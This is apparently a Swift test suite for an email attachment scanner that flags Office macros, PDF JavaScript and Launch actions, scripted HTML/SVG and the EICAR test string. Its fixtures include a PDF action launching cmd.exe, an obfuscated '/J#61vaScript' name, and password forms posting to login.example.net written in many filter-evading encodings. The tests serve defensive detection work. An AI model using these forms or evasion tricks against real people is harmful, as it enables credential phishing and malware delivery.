import Foundation
import StewardCore
import Testing

/// Code that runs when a document is opened: Office macros, PDF JavaScript and Launch,
/// script and off-site forms in HTML/SVG files.
@Suite struct ActiveContentTests {
    let judge = Judge()

    @Test(arguments: [("word", "report.docm"), ("xl", "budget.xlsm"), ("ppt", "slides.pptx"), ("word", "plain-looking.docx")])
    func ooxmlWithAMacroPart(_ kind: String, _ name: String) throws {
        let findings = try judge.findings(Mail.attached(name, try Files.ooxml(kind: kind, macro: true)))
        #expect(findings == ["office-macro: part 2 \"\(name)\" > \"\(kind)/vbaProject.bin\": Office macros (VBA project)"])
    }

    @Test(arguments: [("word", "report.docx"), ("xl", "budget.xlsx"), ("ppt", "slides.pptx")])
    func ooxmlWithoutMacrosPasses(_ kind: String, _ name: String) throws {
        #expect(try judge.findings(Mail.attached(name, try Files.ooxml(kind: kind, macro: false))) == [])
    }

    @Test func oleDocumentWithAVBAProject() throws {
        let findings = try judge.findings(Mail.attached("minutes.doc", Files.ole(streams: ["WordDocument", "Macros", "VBA", "_VBA_PROJECT"])))
        #expect(findings == [#"office-macro: part 2 "minutes.doc": Office macros (VBA project)"#])
        #expect(try judge.findings(Mail.attached("minutes.doc", Files.ole(streams: ["WordDocument", "1Table"]))) == [])
    }

    @Test func clamOLEDocumentCarryingAProgram() throws {
        let findings = try judge.findings(Mail.attached("clam.ole.doc", try Files.clam("clam.ole.doc")))
        #expect(findings == [#"office-macro: part 2 "clam.ole.doc": Office document with an embedded Windows program (OLE package)"#])
    }

    @Test func encryptedOfficeDocument() throws {
        let findings = try judge.findings(Mail.attached("salaries.xlsx", Files.ole(streams: ["EncryptionInfo", "EncryptedPackage"])))
        #expect(findings.count == 1)
        #expect(findings.first?.hasPrefix(#"encrypted-attachment: part 2 "salaries.xlsx": password-protected Office document; it cannot be checked"#) == true, "\(findings)")
    }

    // MARK: PDF

    @Test(arguments: [
        ("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "PDF with JavaScript"),
        ("/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", "PDF with JavaScript"),
        ("/OpenAction << /S /Launch /F (cmd.exe) >>", "PDF with a Launch action that starts a program (cmd.exe)"),
    ])
    func pdfWithActiveContent(_ body: String, _ detail: String) throws {
        let findings = try judge.findings(Mail.attached("notice.pdf", Files.pdf(body), type: "application/pdf"))
        #expect(findings.first == "pdf-active-content: part 2 \"notice.pdf\": \(detail)", "\(findings)")
    }

    @Test func clamPDFCarryingAProgram() throws {
        #expect(try judge.findings(Mail.attached("clam.pdf", try Files.clam("clam.pdf"))) == [#"pdf-active-content: part 2 "clam.pdf": PDF carrying the embedded program "clam.exe""#])
    }

    @Test func pdfWithAnEmbeddedInvoiceXMLPasses() throws {
        let body = "/Names << /EmbeddedFiles << /Names [(factur-x.xml) 3 0 R] >> >> /AF [3 0 R] /F (factur-x.xml)"
        #expect(try judge.findings(Mail.attached("invoice.pdf", Files.pdf(body))) == [])
    }

    @Test func pdfStreamBytesAreNotMistakenForNames() throws {
        let binary: [UInt8] = Array("/JS /Launch".utf8) + [0xFF, 0x00]
        let pdf = Array("%PDF-1.4\n1 0 obj << /Length \(binary.count) /Filter /FlateDecode >>\nstream\n".utf8) + binary
            + Array("\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n".utf8)
        #expect(try judge.findings(Mail.attached("scan.pdf", pdf)) == [])
    }

    @Test func encryptedPDF() throws {
        let pdf = Array("%PDF-1.6\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R /Encrypt 5 0 R >>\n%%EOF\n".utf8)
        #expect(try judge.rules(Mail.attached("payslip.pdf", pdf)) == ["encrypted-attachment"])
    }

    // MARK: HTML and SVG

    @Test func htmlAttachmentWithScript() throws {
        let html = Array("<html><body onload=\"go()\"><p>Your invoice</p></body></html>".utf8)
        #expect(try judge.findings(Mail.attached("invoice.html", html, type: "text/html")) == [#"html-active-content: part 2 "invoice.html": HTML/SVG file with script (onload handler)"#])
        let script = Array("<html><SCRIPT>location='x'</SCRIPT></html>".utf8)
        #expect(try judge.rules(Mail.attached("page.htm", script, type: "application/octet-stream")) == ["html-active-content"])
    }

    @Test func htmlFormPostingElsewhere() throws {
        let html = Array("<html><form method=post action=\"https://login.example.net/collect\"><input name=password type=password></form></html>".utf8)
        #expect(try judge.findings(Mail.attached("login.html", html, type: "text/html")) == [#"html-active-content: part 2 "login.html": HTML/SVG file with a form that sends what is typed into it to https://login.example.net/collect"#])
    }

    @Test("a form posting elsewhere, however its address is written, is found", arguments: [
        "<form data-action=\"/local\" action=\"https://login.example.net/collect\">",
        "<form action=\"https:login.example.net/collect\">",
        "<form action=\"&#104;ttps://login.example.net/collect\">",
        "<form action=\"ht&Tab;tps://login.exa\nmple.net/collect\">",
        "<form action = ' //login.example.net/collect '>",
        "<form action=\"/collect\"><button formaction=\"https://login.example.net/collect\">Sign in</button>",
        "<form><input type=submit formaction=HTTPS://login.example.net/collect>",
        "<base href=\"https://login.example.net/\"><form action=\"collect\">",
        // A review's finds: many decoys before the action, a quoted `>`, the word formaction in text.
        "<form" + String(repeating: " data-action=\"/x\"", count: 30) + " action=\"https://login.example.net/collect\">",
        "<form title=\">\" action=\"https://login.example.net/collect\">",
        "<p>" + String(repeating: "formaction ", count: 80) + "</p><form><button formaction=\"https://login.example.net/collect\">Go</button>",
    ])
    func htmlFormPostingElsewhereWrittenOddly(form: String) throws {
        let html = Array("<html><head></head><body>\(form)<input name=password type=password></form></body></html>".utf8)
        let found = try judge.findings(Mail.attached("login.html", html, type: "text/html"))
        #expect(found.count == 1 && found[0].contains("a form that sends what is typed into it to"), "\(form): \(found)")
        #expect(found.first?.contains("login.example.net") == true || found.first?.contains("login.exa") == true, "\(found)")
    }

    @Test func htmlFormPostingToItsOwnPagePasses() throws {
        for form in ["<form action=\"/search\" data-action=\"https://x.example/\">", "<form action=\"mailto:branch@union.example\">", "<form>"] {
            let html = Array("<html><body>\(form)<input name=q></form><a href=\"https://union.example/\">site</a></body></html>".utf8)
            #expect(try judge.findings(Mail.attached("search.html", html, type: "text/html")) == [], "\(form)")
        }
    }

    @Test func svgWithScript() throws {
        let svg = Array("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".utf8)
        #expect(try judge.rules(Mail.attached("logo.svg", svg, type: "image/svg+xml")) == ["html-active-content"])
        let plain = Array("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"4\" fill=\"red\"/></svg>".utf8)
        #expect(try judge.findings(Mail.attached("logo.svg", plain, type: "image/svg+xml")) == [])
    }

    @Test func htmlAttachmentWithoutScriptPasses() throws {
        let html = Array("<html><body><h1>Agenda</h1><a href=\"https://union.example/\">site</a> Carry on regardless.</body></html>".utf8)
        #expect(try judge.findings(Mail.attached("agenda.html", html, type: "text/html")) == [])
    }

    @Test func eicarInsideAZipIsFound() throws {
        let eicar = Array(#"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"#.utf8)
        let zip = try Files.zip([("readme.txt", eicar)])
        #expect(try judge.findings(Mail.attached("test.zip", zip)) == [#"eicar-test-signature: part 2 "test.zip" > "readme.txt": the EICAR anti-virus test signature"#])
    }
}
